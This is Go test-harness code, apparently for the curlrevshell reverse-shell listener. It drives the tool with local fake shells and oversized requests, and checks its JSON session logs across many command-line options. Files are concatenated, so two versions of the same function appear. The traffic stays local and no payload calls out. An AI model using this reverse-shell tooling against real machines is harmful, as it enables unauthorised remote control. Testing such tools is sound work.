			out, err = crs.OpenOut(s.Addr, "/o/"+id)
			if err != nil {
				r.Inconclusive(err.Error())
				return false
			}
			t.conns = append(t.conns, conn{"input", id}, conn{"output", id})
			*script = append(*script, "uni shell "+id)
		}
		loc, ok := s.Wait(`Shell is ready`, pos, crs.Bound)
		if !ok {
			viol("binary-shell-does-not-attach", "no ready notice")
			return false
		}
		pos = loc[1]
		// refused attempts while the shell is attached
		if rng.IntN(2) == 0 {
			rid := tag + "dup" + fmt.Sprint(g)
			res, _ := hk.Get(s.Addr, "", "x", "/i/"+rid)
			_ = res
			t.refused = append(t.refused, conn{"input", rid})
			*script = append(*script, "refused duplicate input "+rid)
		}
		if rng.IntN(2) == 0 && !bidir {
			rid := tag + "wrong" + fmt.Sprint(g)
			hk.RoundTrip(s.Addr, "", []byte("POST /o/"+rid+" HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nConnection: close\r\n\r\nabc"), hk.Bound)
			t.refused = append(t.refused, conn{"output", rid})
			*script = append(*script, "refused output "+rid)
		}
		// a refused attempt whose request head is big (every generation; what
		// makes it big goes by the generation's number, not by the PRNG): the id,
		// an extra header line or the User-Agent, 20-300 KiB
		{
			bid := fmt.Sprintf("%sbig%d", tag, g)
			ua, pad := "curl/8.0", ""
			switch (g + len(tag)) % 4 {
			case 0:
				pad = "X-Forwarded-For: " + strings.Repeat("10.1.2.3, ", 1600) + "10.0.0.1\r\n"
			case 1:
				bid += "-" + strings.Repeat("0123456789abcdefghijklmnopqrstuvwxyz", 600)
			case 2:
				pad = "Cookie: s=" + strings.Repeat("Zm9vYmFy", 7000) + "\r\nProxy-Authorization: Negotiate " + strings.Repeat("YII", 20000) + "\r\n"
				for x := 0; x < 60; x++ {
					pad += fmt.Sprintf("X-Trace-%d: %s\r\n", x, strings.Repeat("t", 3000))
				}
			default:
				ua += " (" + strings.Repeat("compatible; ", 3400) + ")"
			}
			req := "GET /i/" + bid + " HTTP/1.1\r\nHost: x\r\nUser-Agent: " + ua + "\r\n" + pad + "Connection: close\r\n\r\n"
			if _, c, err := hk.RoundTrip(s.Addr, "", []byte(req), hk.Bound); err != nil && c == nil {
				r.Inconclusive("big-head attempt: " + err.Error())
				return false
			}
			t.refused = append(t.refused, conn{"input", bid})
			*script = append(*script, fmt.Sprintf("refused duplicate input %s with a request head of %d bytes", trunc(bid), len(req)))
			r.Count("binary_bighead_refusals", 1)
			r.Count(fmt.Sprintf("binary_bighead_refusals:%dK", len(req)>>10), 1)
		}
		// traffic
		steps := 4 + rng.IntN(12)
		for k := 0; k < steps && !bad; k++ {
			if rng.IntN(2) == 0 {
				l := fmt.Sprintf("line-%s%d-%d %s", tag, g, k, []string{`"quoted"`, `back\slash`, `{"msg":"x"}`, "plain", "", "%s%d", "tab\there"}[rng.IntN(7)])
				l = strings.ReplaceAll(l, "\t", " ")
				s.Line(l)
				got, err := in.ReadLine(crs.Bound)
				if err != nil || got != l {
					viol("binary-line-not-delivered", fmt.Sprintf("typed %q, fake shell read %q, %v", l, got, err))
					bad = true
					break
				}
				t.in = append(t.in, l+"\n")
			} else {
				c := fmt.Sprintf("<out-%s%d-%d:%s>", tag, g, k, []string{`"q"`, `\\`, "\xff\xfe", "\x01\x02", "{\"level\":\"INFO\"}\n", "plain", "\xe2\x82"}[rng.IntN(7)])
				if err := out.Send(c); err != nil {
					r.Inconclusive("send failed: " + err.Error())
					return false
				}
				t.out.WriteString(c)
				// wait until displayed (the visible prefix is ASCII)
				if _, ok := s.Wait(fmt.Sprintf(`<out-%s%d-%d:`, tag, g, k), 0, crs.Bound); !ok {
					viol("binary-output-not-displayed", fmt.Sprintf("chunk %q never appeared on the terminal", c))
					bad = true
				}
			}
		}
		if bad {
			return false
		}
		// end
		switch rng.IntN(3) {
		case 0:
			out.End()
		case 1:
			out.Close()
		default:
			in.Close()
		}
		loc, ok = s.Wait(`Shell is gone`, pos, crs.Bound)
		if !ok {
			viol("binary-shell-does-not-end", "no gone notice after the client closed")
			return false
		}
		pos = loc[1]
		in.Close()
		out.Close()
		time.Sleep(20 * time.Millisecond)
	}
	if between != nil && !between(gens) {
		return false
	}
	return true
}

func binarySession(r *mon.Run, bin string, idx int) {
	rng := r.Rng("binary", idx)
	home := filepath.Join(r.Work, fmt.Sprintf("bin-%d", idx))
	logf := filepath.Join(home, "session.json")
	os.MkdirAll(home, 0o755)
	naming := binaryNaming(idx)
	s, decoy, err := startNamed(bin, home, logf, naming, "0")
	if err != nil {
		r.Inconclusive("binary did not start: " + err.Error())
		return
	}
	defer s.Close()
	var t truth
	script := []string{"log file named by " + naming.String()}
	if decoy != "" {
		script = append(script, "CURLREVSHELL_LOG names another file, "+filepath.Base(decoy))
	}
	viol := func(key, what string) {
		b, _ := os.ReadFile(logf)
		r.Violate("binary", idx, key, what, map[string]any{"script": script, "log_file_tail": tailS(string(b), 3000), "terminal_tail": tailS(s.P.Clean(), 1500)})
	}
	gens := 1 + rng.IntN(3)
	if !driveGens(r, s, rng, gens, "", &t, &script, viol, nil) {
		return
	}
	st, sig, ok := s.Quit()
	if !ok || st != 0 {
		r.Inconclusive(fmt.Sprintf("binary did not exit cleanly (status %d signal %q exited %v)", st, sig, ok))
	}
	// ---- reconstruct the session from the log file alone ----
	b, err := os.ReadFile(logf)
	if err != nil {
		viol("log-file-missing", fmt.Sprintf("log file named by %s: %v", naming, err))
		return
	}
	g, badLine := parseLog(b)
	if badLine != "" {
		viol("log-line-not-json", "the log file: "+badLine)
		return
	}
	r.Count("binary_log_lines", int64(g.lines))
	compareRecon(&t, g, viol)
	r.Eval(1)
	r.Count("binary_sessions", 1)
	naming.count(r, "binary")
	r.Count("binary_connections", int64(len(g.conns)))
	r.Count("binary_refusals", int64(len(g.refused)))
	r.Count("binary_input_lines", int64(len(g.in)))
	r.Distinct("binary|" + strings.Join(script, "|"))
	if idx == 0 {
		r.Sample("binary", map[string]any{"script": script, "log_lines": g.lines, "connections": fmt.Sprint(g.conns), "refusals": fmt.Sprint(g.refused)})
	}
}

func tailS(s string, n int) string {
	if len(s) > n {
		return s[len(s)-n:]
	}
	return s
}

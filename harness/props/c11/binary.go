package c11

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

type conn struct {
	dir, id string
}

// binarySessions drives the real binary with -log and reconstructs the
// session from the log file alone.
func binarySessions(r *mon.Run) {
	bin, err := crs.Build(r.Work, "")
	if err != nil {
		r.Inconclusive("cannot build the binary: " + err.Error())
		return
	}
	n := r.N(3, 30)
	mon.Parallel(n, 6, func(i int) {
		if r.Want("binary", i) {
			binarySession(r, bin, i)
		}
	})
	r.Floor("binary_sessions", int64(n))
}

func binarySession(r *mon.Run, bin string, idx int) {
	rng := r.Rng("binary", idx)
	home := filepath.Join(r.Work, fmt.Sprintf("bin-%d", idx))
	logf := filepath.Join(home, "session.json")
	os.MkdirAll(home, 0o755)
	s, err := crs.Start(bin, home, "-listen-address", "127.0.0.1:0", "-tls-certificate-cache", "", "-log", logf)
	if err != nil {
		r.Inconclusive("binary did not start: " + err.Error())
		return
	}
	defer s.Close()
	var truthConns []conn     // admitted streams, in order
	var truthRefused []conn   // refused streams
	var truthIn []string      // lines delivered
	var truthOut strings.Builder
	var script []string
	viol := func(key, what string) {
		b, _ := os.ReadFile(logf)
		r.Violate("binary", idx, key, what, map[string]any{"script": script, "log_file_tail": tailS(string(b), 3000), "terminal_tail": tailS(s.P.Clean(), 1500)})
	}
	bad := false
	gens := 1 + rng.IntN(3)
	pos := 0
	for g := 0; g < gens && !bad; g++ {
		bidir := rng.IntN(3) == 0
		id := fmt.Sprintf("g%d%s", g, []string{"abc", "A-b_c", "x.y", "0"}[rng.IntN(4)])
		var in *crs.InStream
		var out *crs.OutStream
		if bidir {
			io, err := crs.OpenIO(s.Addr)
			if err != nil {
				r.Inconclusive(err.Error())
				return
			}
			in, out = io.In, io.Out
			truthConns = append(truthConns, conn{"input", ""}, conn{"output", ""})
			script = append(script, "io shell")
		} else {
			in, err = crs.OpenIn(s.Addr, "/i/"+id)
			if err != nil {
				r.Inconclusive(err.Error())
				return
			}
			if _, ok := s.Wait(`Input connected`, pos, crs.Bound); !ok {
				viol("binary-shell-does-not-attach", "no 'Input connected' notice")
				return
			}
			out, err = crs.OpenOut(s.Addr, "/o/"+id)
			if err != nil {
				r.Inconclusive(err.Error())
				return
			}
			truthConns = append(truthConns, conn{"input", id}, conn{"output", id})
			script = append(script, "uni shell "+id)
		}
		loc, ok := s.Wait(`Shell is ready`, pos, crs.Bound)
		if !ok {
			viol("binary-shell-does-not-attach", "no ready notice")
			return
		}
		pos = loc[1]
		// refused attempts while the shell is attached
		if rng.IntN(2) == 0 {
			rid := "dup" + fmt.Sprint(g)
			res, _ := hk.Get(s.Addr, "", "x", "/i/"+rid)
			_ = res
			truthRefused = append(truthRefused, conn{"input", rid})
			script = append(script, "refused duplicate input "+rid)
		}
		if rng.IntN(2) == 0 && !bidir {
			rid := "wrong" + fmt.Sprint(g)
			hk.RoundTrip(s.Addr, "", []byte("POST /o/"+rid+" HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nConnection: close\r\n\r\nabc"), hk.Bound)
			truthRefused = append(truthRefused, conn{"output", rid})
			script = append(script, "refused output "+rid)
		}
		// traffic
		steps := 4 + rng.IntN(12)
		for k := 0; k < steps && !bad; k++ {
			if rng.IntN(2) == 0 {
				l := fmt.Sprintf("line-%d-%d %s", g, k, []string{`"quoted"`, `back\slash`, `{"msg":"x"}`, "plain", "", "%s%d", "tab\there"}[rng.IntN(7)])
				l = strings.ReplaceAll(l, "\t", " ")
				s.Line(l)
				got, err := in.ReadLine(crs.Bound)
				if err != nil || got != l {
					viol("binary-line-not-delivered", fmt.Sprintf("typed %q, fake shell read %q, %v", l, got, err))
					bad = true
					break
				}
				truthIn = append(truthIn, l+"\n")
			} else {
				c := fmt.Sprintf("<out-%d-%d:%s>", g, k, []string{`"q"`, `\\`, "\xff\xfe", "\x01\x02", "{\"level\":\"INFO\"}\n", "plain", "\xe2\x82"}[rng.IntN(7)])
				if err := out.Send(c); err != nil {
					r.Inconclusive("send failed: " + err.Error())
					return
				}
				truthOut.WriteString(c)
				// wait until displayed (the visible prefix is ASCII)
				if _, ok := s.Wait(fmt.Sprintf(`<out-%d-%d:`, g, k), 0, crs.Bound); !ok {
					viol("binary-output-not-displayed", fmt.Sprintf("chunk %q never appeared on the terminal", c))
					bad = true
				}
			}
		}
		if bad {
			return
		}
		// end
		switch rng.IntN(3) {
		case 0:
			out.End()
		case 1:
			out.Close()
		default:
			in.Close()
		}
		loc, ok = s.Wait(`Shell is gone`, pos, crs.Bound)
		if !ok {
			viol("binary-shell-does-not-end", "no gone notice after the client closed")
			return
		}
		pos = loc[1]
		in.Close()
		out.Close()
		time.Sleep(20 * time.Millisecond)
	}
	st, sig, ok := s.Quit()
	if !ok || st != 0 {
		r.Inconclusive(fmt.Sprintf("binary did not exit cleanly (status %d signal %q exited %v)", st, sig, ok))
	}
	// ---- reconstruct the session from the log file alone ----
	f, err := os.Open(logf)
	if err != nil {
		viol("log-file-missing", err.Error())
		return
	}
	defer f.Close()
	var gotConns, gotRefused []conn
	var gotIn []string
	var gotOut strings.Builder
	ndisc := 0
	sc := bufio.NewReaderSize(f, 1<<20)
	nl := 0
	for {
		line, err := sc.ReadString('\n')
		if line == "" && err != nil {
			break
		}
		nl++
		var m map[string]any
		dec := json.NewDecoder(strings.NewReader(line))
		if derr := dec.Decode(&m); derr != nil || !strings.HasSuffix(line, "\n") || dec.More() {
			viol("log-line-not-json", fmt.Sprintf("line %d of the log file is not one complete JSON object: %q", nl, trunc(line)))
			return
		}
		msg, _ := m["msg"].(string)
		dir, _ := m["direction"].(string)
		id := ""
		if hr, ok := m["http_request"].(map[string]any); ok {
			id, _ = hr["id"].(string)
		}
		data, _ := m["data"].(string)
		switch {
		case msg == "New connection":
			gotConns = append(gotConns, conn{dir, id})
		case msg == "Disconnected":
			ndisc++
		case msg == "Shell I/O" && dir == "input":
			gotIn = append(gotIn, data)
		case msg == "Shell I/O" && dir == "output":
			gotOut.WriteString(data)
		case isRefusalRecord(fmt.Sprint(m["level"]), msg):
			gotRefused = append(gotRefused, conn{dir, id})
		}
		if err != nil {
			break
		}
	}
	r.Count("binary_log_lines", int64(nl))
	cmpConns := func(a, b []conn) bool {
		if len(a) != len(b) {
			return false
		}
		ca, cb := map[conn]int{}, map[conn]int{}
		for i := range a {
			ca[a[i]]++
			cb[b[i]]++
		}
		for k, v := range ca {
			if cb[k] != v {
				return false
			}
		}
		return true
	}
	if !cmpConns(truthConns, gotConns) {
		viol("binary-log-connections-differ", fmt.Sprintf("connections reconstructed from the log %v differ from the ones made %v", gotConns, truthConns))
	}
	if ndisc != len(gotConns) {
		viol("binary-log-disconnects-differ", fmt.Sprintf("%d Disconnected records for %d New connection records", ndisc, len(gotConns)))
	}
	if !cmpConns(truthRefused, gotRefused) {
		viol("binary-log-refusals-differ", fmt.Sprintf("refusals reconstructed from the log %v differ from the ones provoked %v", gotRefused, truthRefused))
	}
	if strings.Join(gotIn, "") != strings.Join(truthIn, "") || len(gotIn) != len(truthIn) {
		viol("binary-log-input-differs", fmt.Sprintf("input reconstructed from the log %q differs from the lines delivered %q", trunc(strings.Join(gotIn, "")), trunc(strings.Join(truthIn, ""))))
	}
	if gotOut.String() != toValid(truthOut.String()) {
		viol("binary-log-output-differs", fmt.Sprintf("output reconstructed from the log %q differs from the bytes sent %q", trunc(gotOut.String()), trunc(toValid(truthOut.String()))))
	}
	r.Eval(1)
	r.Count("binary_sessions", 1)
	r.Count("binary_connections", int64(len(gotConns)))
	r.Count("binary_refusals", int64(len(gotRefused)))
	r.Count("binary_input_lines", int64(len(gotIn)))
	r.Distinct("binary|" + strings.Join(script, "|"))
	if idx == 0 {
		r.Sample("binary", map[string]any{"script": script, "log_lines": nl, "connections": fmt.Sprint(gotConns), "refusals": fmt.Sprint(gotRefused)})
	}
}

func tailS(s string, n int) string {
	if len(s) > n {
		return s[len(s)-n:]
	}
	return s
}

package c11

import (
	"bufio"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/hsrv"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
	"github.com/magisterquis/curlrevshell/verifharness/mon/ptyx"
)

// Engine "config": the real binary with -log under the program's OTHER
// documented options, each alone and in pairs drawn by index, with the same
// oracle as in the default configuration: the session (every stream kind /i,
// /o and /io, typed lines, Ctrl+I insertions, output, refused attempts) is
// reconstructed from the log file alone.
//
// Engine "stall" (same file, runs concurrently with the others): shutdowns
// (Ctrl+D / Ctrl+C) with a stream that cannot end at once.

type cfgOption struct {
	name     string
	variants []string
}

var cfgOptions = []cfgOption{
	{"one-shell", []string{"on"}},
	{"serve-files-from", []string{"dir", "file", "empty", "space-edges", "relative", "dotdot", "symlink"}},
	{"callback-address", []string{"one", "dozens"}},
	{"callback-template", []string{"regular", "symlink", "missing"}},
	{"ctrl-i", []string{"file", "dir", "missing", "percent-space"}},
	{"tls-certificate-cache", []string{"explicit", "default", "near-served"}},
	{"no-timestamps", []string{"on"}},
	{"ipv6-one-liners", []string{"on"}},
	{"listen-address", []string{"localhost", "127.0.0.2", "zero-padded-port"}},
	{"prompt", []string{"custom", "empty"}},
	{"log-by-env", []string{"env-only", "env-and-flag"}},
	// options with which the program ends at start-up, before it listens: the
	// log, if there is one, must still be JSON lines, and of no stream
	{"icanhazip", []string{"on"}},
	{"print-ctrl-i", []string{"file", "nothing-configured"}},
}

// cfgStreamOptions: how many of cfgOptions (the first ones) leave the program running.
const cfgStreamOptions = 11

var cfgSpellings = []string{"-flag value", "-flag=value", "--flag value", "--flag=value"}

type cfgPick struct {
	opt     int
	variant int
}

func (p cfgPick) String() string {
	return cfgOptions[p.opt].name + ":" + cfgOptions[p.opt].variants[p.variant]
}

type cfgPlan struct {
	picks    []cfgPick
	spelling int
	twice    bool // the first option's flag is given twice (the last one counts)
	ioFirst  bool
	quitKey  byte // 'D' or 'C'
	attached bool // quit while one more shell is attached
}

func (p cfgPlan) oneShell() bool {
	for _, k := range p.picks {
		if cfgOptions[k.opt].name == "one-shell" {
			return true
		}
	}
	return false
}

func (p cfgPlan) endsAtStartup() bool {
	for _, k := range p.picks {
		if k.opt >= cfgStreamOptions {
			return true
		}
	}
	return false
}

func (p cfgPlan) String() string {
	var s []string
	for _, k := range p.picks {
		s = append(s, k.String())
	}
	return strings.Join(s, " + ")
}

// planConfigs: every option alone (quick: one variant by index and seed,
// thorough: every variant), then pairs of different options (quick: as many
// pairs as there are options, every option in two of them; thorough: all).
func planConfigs(seed int64, thorough bool) []cfgPlan {
	var plans []cfgPlan
	n := len(cfgOptions)
	sd := int(seed % 1000)
	if sd < 0 {
		sd = -sd
	}
	add := func(picks ...cfgPick) {
		i := len(plans)
		plans = append(plans, cfgPlan{
			picks:    picks,
			spelling: (i + sd) % len(cfgSpellings),
			twice:    (i+sd)%3 == 0,
			ioFirst:  (i+sd)%2 == 0,
			quitKey:  "DC"[(i/2+sd)%2],
			attached: (i+sd)%3 == 1,
		})
	}
	for o := 0; o < n; o++ {
		nv := len(cfgOptions[o].variants)
		if thorough {
			for v := 0; v < nv; v++ {
				add(cfgPick{o, v})
			}
		} else {
			add(cfgPick{o, (o + sd) % nv})
		}
	}
	pair := func(a, b, k int) {
		va := (k + sd + 1) % len(cfgOptions[a].variants)
		vb := (k/2 + sd + 2) % len(cfgOptions[b].variants)
		add(cfgPick{a, va}, cfgPick{b, vb})
	}
	if thorough {
		k := 0
		for a := 0; a < n; a++ {
			for b := a + 1; b < n; b++ {
				pair(a, b, k)
				k++
			}
		}
	} else {
		step := 1 + sd%(n-1)
		for a := 0; a < n; a++ {
			pair(a, (a+step)%n, a)
		}
	}
	return plans
}

type flagArg struct {
	name, val string
	boolean   bool
}

// cfgSetup is one run's command line, environment and files.
type cfgSetup struct {
	args      []string
	env       []string
	cwd       string
	logf      string
	insertSrc string // a .sh file Tab/Ctrl+I inserts as it is ("" = nothing to insert)
	insertLen int
	notes     []string
}

func spell(f flagArg, spelling int) []string {
	dash := "-"
	if spelling >= 2 {
		dash = "--"
	}
	if f.boolean {
		if f.val == "" {
			return []string{dash + f.name}
		}
		return []string{dash + f.name + "=" + f.val}
	}
	if spelling%2 == 1 {
		return []string{dash + f.name + "=" + f.val}
	}
	return []string{dash + f.name, f.val}
}

// shFile writes a shell file of n short lines (sent as it is by Ctrl+I).
func shFile(path string, n int, tag string) (int, error) {
	var sb strings.Builder
	for i := 0; i < n; i++ {
		fmt.Fprintf(&sb, "# %s inserted line %d \"q\" \\ {\"msg\":\"x\"}\n", tag, i)
	}
	return sb.Len(), os.WriteFile(path, []byte(sb.String()), 0o600)
}

// buildSetup makes the files of a run and its command line.  extra are
// further flags (engine stall: its own -ctrl-i).
func buildSetup(home string, plan cfgPlan, tag string, extra ...flagArg) (*cfgSetup, error) {
	st := &cfgSetup{cwd: filepath.Join(home, "cwd"), logf: filepath.Join(home, "log "+tag+".json")}
	served := filepath.Join(home, "served")
	for _, d := range []string{st.cwd, served, filepath.Join(served, "sub")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			return nil, err
		}
	}
	if err := os.WriteFile(filepath.Join(served, "one.txt"), []byte("one\n"), 0o644); err != nil {
		return nil, err
	}
	listen := flagArg{name: "listen-address", val: "127.0.0.1:0"}
	cert := &flagArg{name: "tls-certificate-cache", val: ""}
	logBy := "flag"
	var flags [][]flagArg // per pick
	for _, k := range plan.picks {
		o, v := cfgOptions[k.opt].name, cfgOptions[k.opt].variants[k.variant]
		var fa []flagArg
		switch o {
		case "one-shell":
			fa = []flagArg{{name: "one-shell", boolean: true}}
		case "no-timestamps", "ipv6-one-liners", "icanhazip":
			fa = []flagArg{{name: o, boolean: true}}
		case "print-ctrl-i":
			fa = []flagArg{{name: o, boolean: true}}
			if v == "file" {
				val := filepath.Join(home, "printed.sh")
				if _, err := shFile(val, 3, tag); err != nil {
					return nil, err
				}
				fa = append(fa, flagArg{name: "ctrl-i", val: val})
			}
		case "serve-files-from":
			val := served
			switch v {
			case "file":
				val = filepath.Join(served, "one.txt")
			case "empty":
				val = ""
			case "space-edges":
				val = filepath.Join(home, " served with spaces ")
				if err := os.MkdirAll(val, 0o755); err != nil {
					return nil, err
				}
				os.WriteFile(filepath.Join(val, " f "), []byte("f\n"), 0o644)
			case "relative":
				val = "../served"
			case "dotdot":
				val = filepath.Join(home, "served") + "/sub/../../served/./sub/.."
			case "symlink":
				val = filepath.Join(home, "served-link")
				os.Remove(val)
				if err := os.Symlink("served", val); err != nil {
					return nil, err
				}
			}
			fa = []flagArg{{name: o, val: val}}
		case "callback-address":
			if v == "one" {
				fa = []flagArg{{name: o, val: "cb.example.com:8443"}}
			} else {
				for i := 0; i < 36; i++ {
					fa = append(fa, flagArg{name: o, val: fmt.Sprintf("10.9.%d.%d:%d", i/6, i%6+1, 4000+i)})
				}
			}
		case "callback-template":
			val := filepath.Join(home, "template.tmpl")
			switch v {
			case "regular":
				if err := os.WriteFile(val, []byte(hsrv.DefaultTemplate), 0o600); err != nil {
					return nil, err
				}
			case "symlink":
				if err := os.WriteFile(val, []byte(hsrv.DefaultTemplate), 0o600); err != nil {
					return nil, err
				}
				ln := filepath.Join(home, "template-link")
				os.Remove(ln)
				if err := os.Symlink(val, ln); err != nil {
					return nil, err
				}
				val = ln
			case "missing":
				val = filepath.Join(home, "no-such.tmpl")
			}
			fa = []flagArg{{name: o, val: val}}
		case "ctrl-i":
			val := filepath.Join(home, "insert.sh")
			switch v {
			case "file":
				n, err := shFile(val, 3+k.variant+len(tag), tag)
				if err != nil {
					return nil, err
				}
				st.insertSrc, st.insertLen = val, n
			case "percent-space":
				val = filepath.Join(home, " in %s 100%d .sh")
				n, err := shFile(val, 4+len(tag), tag)
				if err != nil {
					return nil, err
				}
				st.insertSrc, st.insertLen = val, n
			case "dir":
				val = filepath.Join(home, "insert.d")
				os.MkdirAll(val, 0o755)
				shFile(filepath.Join(val, "a.sh"), 2, tag)
				shFile(filepath.Join(val, "b.sh"), 3, tag)
			case "missing":
				val = filepath.Join(home, "no-such-insert.sh")
			}
			fa = []flagArg{{name: o, val: val}}
		case "tls-certificate-cache":
			switch v {
			case "explicit":
				cert.val = filepath.Join(home, "cert cache.txtar")
			case "default":
				cert = nil // the flag is not given: the default below HOME / XDG_CACHE_HOME
			case "near-served":
				cert.val = filepath.Join(served, "cert.txtar")
			}
		case "listen-address":
			switch v {
			case "localhost":
				listen.val = "localhost:0"
			case "127.0.0.2":
				listen.val = "127.0.0.2:0"
			case "zero-padded-port":
				listen.val = "127.0.0.1:00"
			}
		case "prompt":
			if v == "custom" {
				fa = []flagArg{{name: o, val: "c11 %s \"p\"> "}}
			} else {
				fa = []flagArg{{name: o, val: ""}}
			}
		case "log-by-env":
			if v == "env-only" {
				logBy = "env"
			} else {
				logBy = "both"
			}
		}
		flags = append(flags, fa)
	}
	// the flag given twice: an earlier, other value first (the last one counts)
	var first []flagArg
	if plan.twice {
		switch o := cfgOptions[plan.picks[0].opt].name; o {
		case "one-shell", "no-timestamps", "ipv6-one-liners", "icanhazip", "print-ctrl-i":
			first = []flagArg{{name: o, boolean: true, val: "false"}}
		case "serve-files-from", "callback-template", "ctrl-i", "prompt":
			first = []flagArg{{name: o, val: filepath.Join(home, "given-first-and-overridden")}}
		case "callback-address":
			first = []flagArg{{name: o, val: "first.example.com"}}
		case "tls-certificate-cache":
			first = []flagArg{{name: o, val: filepath.Join(home, "overridden-cert.txtar")}}
		case "listen-address":
			first = []flagArg{{name: o, val: "127.0.0.1:1"}}
		case "log-by-env":
			first = []flagArg{{name: "log", val: filepath.Join(home, "overridden-log.json")}}
			logBy = "both"
		}
		st.notes = append(st.notes, fmt.Sprintf("-%s is given twice", first[0].name))
	}
	var all []flagArg
	all = append(all, first...)
	all = append(all, listen)
	for _, fa := range flags {
		all = append(all, fa...)
	}
	if cert != nil {
		all = append(all, *cert)
	}
	if logBy != "env" {
		all = append(all, flagArg{name: "log", val: st.logf})
	}
	if logBy != "flag" {
		st.env = append(st.env, "CURLREVSHELL_LOG="+st.logf)
	}
	all = append(all, extra...)
	for _, f := range all {
		st.args = append(st.args, spell(f, plan.spelling)...)
	}
	return st, nil
}

func (st *cfgSetup) start(bin, home string) (*crs.Session, error) {
	p, err := ptyx.Start(ptyx.Opts{Path: bin, Args: st.args, Env: append(crs.Env(home), st.env...), Dir: st.cwd})
	if err != nil {
		return nil, err
	}
	loc, ok := p.WaitFor(namedListenRe, 0, crs.Bound)
	if !ok {
		out := p.Clean()
		p.Close()
		return nil, fmt.Errorf("no 'Listening on' line with %q; terminal shows: %q", st.args, tailS(out, 600))
	}
	return &crs.Session{P: p, Addr: p.Clean()[loc[2]:loc[3]], Home: home}, nil
}

// ---- a fake shell of a fixed kind -------------------------------------------

type fakeShell struct {
	kind string // "uni" or "io"
	id   string
	in   *crs.InStream
	out  *crs.OutStream
}

func (f *fakeShell) close() {
	if f.in != nil {
		f.in.Close()
	}
	if f.out != nil {
		f.out.Close()
	}
}

var insertedRe = `Inserted (\d+) bytes`

// attach opens a shell of the given kind.  turnedAway = the program answered
// the request(s) but never said the shell was ready: whether the streams were
// accepted or refused is then for the log to say.
func attach(r *mon.Run, s *crs.Session, kind, id string, pos *int, t *truth, script *[]string, viol func(key, what string)) (f *fakeShell, turnedAway, ok bool) {
	f = &fakeShell{kind: kind, id: id}
	var err error
	if kind == "io" {
		var ios *crs.IOStream
		if ios, err = crs.OpenIO(s.Addr); err != nil {
			r.Inconclusive("config: " + err.Error())
			return nil, false, false
		}
		f.in, f.out = ios.In, ios.Out
		*script = append(*script, "io shell")
	} else {
		if f.in, err = crs.OpenIn(s.Addr, "/i/"+id); err != nil {
			r.Inconclusive("config: " + err.Error())
			return nil, false, false
		}
		if _, ok := s.Wait(`Input connected`, *pos, crs.Bound); !ok {
			viol("binary-shell-does-not-attach", "no 'Input connected' notice")
			f.close()
			return nil, false, false
		}
		if f.out, err = crs.OpenOut(s.Addr, "/o/"+id); err != nil {
			r.Inconclusive("config: " + err.Error())
			f.close()
			return nil, false, false
		}
		*script = append(*script, "uni shell "+id)
	}
	loc, ready := s.Wait(`Shell is ready`, *pos, 3*time.Second)
	if !ready {
		// Not ready (yet).  Has the program answered?  The answer to an attached
		// input side comes with the first line only, so an answer now means the
		// handler is done with the request.
		herr := f.in.Header(crs.Bound)
		if loc, ready = s.Wait(`Shell is ready`, *pos, 0); !ready {
			if herr != nil {
				if loc, ready = s.Wait(`Shell is ready`, *pos, crs.Bound); !ready {
					r.Inconclusive(fmt.Sprintf("config: %s shell neither became ready nor was it answered: %v", kind, herr))
					f.close()
					return nil, false, false
				}
			} else {
				*script = append(*script, fmt.Sprintf("the %s shell's request was answered (status %d) without the shell becoming ready", kind, f.in.Status))
				f.close()
				return nil, true, true
			}
		}
	}
	*pos = loc[1]
	if kind == "io" {
		t.conns = append(t.conns, conn{"input", ""}, conn{"output", ""})
	} else {
		t.conns = append(t.conns, conn{"input", id}, conn{"output", id})
	}
	return f, false, true
}

// typeLine types a line and has the shell read it.
func (f *fakeShell) typeLine(s *crs.Session, l string, t *truth, viol func(key, what string)) bool {
	s.Line(l)
	got, err := f.in.ReadLine(crs.Bound)
	if err != nil || got != l {
		viol("binary-line-not-delivered", fmt.Sprintf("typed %q, fake shell read %q, %v", l, got, err))
		return false
	}
	t.in = append(t.in, l+"\n")
	return true
}

func (f *fakeShell) sendOut(r *mon.Run, s *crs.Session, c, visible string, t *truth, viol func(key, what string)) bool {
	if err := f.out.Send(c); err != nil {
		r.Inconclusive("config: send failed: " + err.Error())
		return false
	}
	t.out.WriteString(c)
	if _, ok := s.Wait(regexp.QuoteMeta(visible), 0, crs.Bound); !ok {
		viol("binary-output-not-displayed", fmt.Sprintf("chunk %q never appeared on the terminal", c))
		return false
	}
	return true
}

// insert presses Tab and reads what the program says it inserted.
func (f *fakeShell) insert(r *mon.Run, s *crs.Session, t *truth, viol func(key, what string)) bool {
	from := s.P.CleanLen()
	s.Type("\t")
	loc, ok := s.Wait(insertedRe, from, crs.Bound)
	if !ok {
		viol("binary-insert-not-done", "no 'Inserted n bytes' notice after Tab")
		return false
	}
	n, _ := strconv.Atoi(s.P.Clean()[loc[2]:loc[3]])
	// the n bytes and the newline that ends every input line
	var sb strings.Builder
	for sb.Len() < n+1 {
		l, err := f.in.ReadLine(crs.Bound)
		if err != nil {
			viol("binary-line-not-delivered", fmt.Sprintf("Tab inserted %d bytes, the fake shell read %d and then %v", n, sb.Len(), err))
			return false
		}
		sb.WriteString(l + "\n")
	}
	t.in = append(t.in, sb.String())
	r.Count("config_inserts", 1)
	return true
}

// ---- engine config ---------------------------------------------------------

func configRun(r *mon.Run, bin string, ci int, plan cfgPlan, kinds []string, runTag string) bool {
	home := filepath.Join(r.Work, fmt.Sprintf("config-%d%s", ci, runTag))
	os.MkdirAll(home, 0o755)
	tag := fmt.Sprintf("c%d%s", ci, runTag)
	st, err := buildSetup(home, plan, tag)
	if err != nil {
		r.Inconclusive("config: " + err.Error())
		return false
	}
	script := []string{"configuration " + plan.String(), "spelled " + cfgSpellings[plan.spelling]}
	script = append(script, st.notes...)
	s, err := st.start(bin, home)
	if err != nil {
